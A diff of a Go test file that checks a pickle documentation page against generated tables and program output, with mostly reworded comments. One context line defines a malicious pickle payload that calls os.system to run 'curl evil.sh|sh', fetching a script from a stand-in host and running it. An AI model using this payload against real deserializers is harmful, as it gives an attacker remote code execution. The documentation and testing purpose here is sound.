@@ -1,4 +1,4 @@
-// docs/pickle.md says what the tables say, and shows what the program prints.
+// Checks docs/pickle.md against the tables and the output of the program.
 
 package pickle
 
@@ -12,7 +12,7 @@ import (
 
 var update = flag.Bool("update", false, "write the tables of docs/pickle.md instead of comparing with them")
 
-// The page has its tables between these lines.
+// The tables are between these lines.
 const tablesBegin, tablesEnd = "<!-- tables: made by go generate -->\n", "<!-- end of tables -->\n"
 
 func TestPickleDoc(t *testing.T) {
@@ -43,7 +43,7 @@ func TestPickleDoc(t *testing.T) {
 	}
 }
 
-// payload2 is the call that the page shows.
+// payload2 is the call in the example of the page.
 const payload2 = "cos\nsystem\nX\x0f\x00\x00\x00curl evil.sh|sh\x85R"
 
 func tables() string {
